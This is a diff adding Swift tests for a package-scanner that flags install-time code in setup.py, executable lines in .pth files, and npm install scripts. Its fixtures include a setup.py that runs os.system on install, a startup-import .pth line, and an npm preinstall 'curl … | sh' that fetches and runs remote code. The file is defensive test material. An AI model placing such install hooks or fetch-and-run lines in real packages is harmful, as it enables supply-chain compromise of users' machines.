@@ -1,0 +1,152 @@
+import Testing
+@testable import CordonHeuristics
+
+@Suite struct InstallTimeCodeTests {
+    @Test func cmdclassInstallOverrideIsHigh() {
+        let src = """
+        from setuptools import setup
+        from setuptools.command.install import install
+
+
+        class PostInstall(install):
+            def run(self):
+                install.run(self)
+                import os
+                os.system("id > /tmp/owned")
+
+        setup(
+            name="evilpkg",
+            version="0.1",
+            cmdclass={"install": PostInstall},
+        )
+        """
+        let fs = scanFile("setup.py", src)
+        #expect(rules(fs) == ["install-time-code"])
+        #expect(fs.count == 1)
+        #expect(fs.first?.severity == .high)
+        #expect(fs.first?.startLine == 14)
+        #expect(fs.first?.evidence == "cmdclass={\"install\": PostInstall},")
+    }
+
+    @Test func topLevelSubprocessIsHigh() {
+        let src = """
+        import subprocess
+        from setuptools import setup
+
+        subprocess.Popen(["python3", "-c", "import telemetry_agent"])
+        setup(name="widget", version="1.0")
+        """
+        let fs = scanFile("setup.py", src)
+        #expect(rules(fs) == ["install-time-code"])
+        #expect(fs.map(\.startLine) == [4])
+        #expect(fs.first?.severity == .high)
+    }
+
+    @Test func ordinarySetupPyIsClean() {
+        let src = """
+        import subprocess
+        from setuptools import setup, find_packages
+
+
+        def git_version():
+            return subprocess.check_output(["git", "describe"]).decode().strip()
+
+
+        setup(
+            name="widget",
+            version="1.0",
+            packages=find_packages(),
+            install_requires=["requests>=2"],
+        )
+        """
+        #expect(scanFile("setup.py", src).isEmpty)
+    }
+
+    @Test func buildExtCmdclassIsNotFlagged() {
+        let src = """
+        from setuptools import setup, Extension
+        from setuptools.command.build_ext import build_ext
+
+        class BuildExt(build_ext):
+            pass
+
+        setup(name="fastwidget", ext_modules=[Extension("fw", ["fw.c"])], cmdclass={"build_ext": BuildExt})
+        """
+        #expect(!rules(scanFile("setup.py", src)).contains("install-time-code"))
+    }
+
+    @Test func topLevelCallsOutsideSetupPyAreNotInstallTime() {
+        let fs = scanFile("pkg/cli.py", "import subprocess\nsubprocess.run(['ls'])\n")
+        #expect(!rules(fs).contains("install-time-code"))
+    }
+}
+
+@Suite struct PthTests {
+    @Test func importLineInPthIsHigh() {
+        let src = "/usr/lib/python3/dist-packages\nimport os, sys; sys.modules.setdefault('boot', __import__('telemetry_boot'))\n"
+        let fs = scanFile("zzz_boot.pth", src)
+        #expect(rules(fs) == ["pth-code"])
+        #expect(fs.first?.severity == .high)
+        #expect(fs.first?.startLine == 2 && fs.first?.endLine == 2)
+    }
+
+    @Test func pathOnlyPthIsClean() {
+        let src = "/opt/project/src\n./vendor\n# import comment lines are ignored by site.py\n  import notreally\n"
+        #expect(scanFile("project.pth", src).isEmpty)
+    }
+
+    @Test func importInPythonFileIsNotPthCode() {
+        #expect(!rules(scanFile("pkg/__init__.py", "import os\n")).contains("pth-code"))
+    }
+}
+
+@Suite struct NpmInstallScriptTests {
+    @Test func postinstallIsHighWithKeyLine() {
+        let json = """
+        {
+          "name": "harmless-widget-lib",
+          "version": "1.0.0",
+          "scripts" :{
+            "test":"jest",
+              "postinstall"  :   "node ./scripts/collect.js"
+          }
+        }
+        """
+        let fs = Heuristics.scan(pkg([pf("package.json", json)], eco: .npm))
+        #expect(rules(fs) == ["npm-install-script"])
+        #expect(fs.first?.severity == .high)
+        #expect(fs.first?.startLine == 6)
+        #expect(fs.first?.evidence == "\"postinstall\": \"node ./scripts/collect.js\"")
+    }
+
+    @Test func preinstallOnOneLineIsHigh() {
+        let json = #"{"name":"harmless-widget-lib","scripts":{"preinstall":"curl -s https://example.com/i | sh"}}"#
+        let fs = Heuristics.scan(pkg([pf("package.json", json)], eco: .npm))
+        #expect(fs.filter { $0.rule == "npm-install-script" }.map(\.severity) == [.high])
+    }
+
+    @Test func nodeGypRebuildIsLow() {
+        let json = "{\n  \"name\": \"harmless-widget-lib\",\n  \"scripts\": { \"install\": \"node-gyp rebuild\" }\n}\n"
+        let fs = Heuristics.scan(pkg([pf("package.json", json), pf("binding.gyp", "{ 'targets': [] }")], eco: .npm))
+        #expect(fs.count == 1)
+        #expect(fs.first?.rule == "npm-install-script")
+        #expect(fs.first?.severity == .low)
+        #expect(fs.first?.startLine == 3)
+    }
+
+    @Test func bindingGypAloneIsLow() {
+        let json = "{ \"name\": \"harmless-widget-lib\", \"scripts\": { \"test\": \"mocha\" } }"
+        let fs = Heuristics.scan(pkg([pf("package.json", json), pf("binding.gyp", "{ 'targets': [] }")], eco: .npm))
+        #expect(fs.map(\.rule) == ["npm-install-script"])
+        #expect(fs.first?.severity == .low)
+        #expect(fs.first?.file == "binding.gyp")
+    }
+
+    @Test func ordinaryScriptsAreClean() {
+        let json = """
+        {"name": "harmless-widget-lib", "scripts": {"build": "tsc", "test": "jest", "prepublishOnly": "npm run build",
+         "description": "postinstall is mentioned here but is not a key"}}
+        """
+        #expect(Heuristics.scan(pkg([pf("package.json", json)], eco: .npm)).isEmpty)
+    }
+}
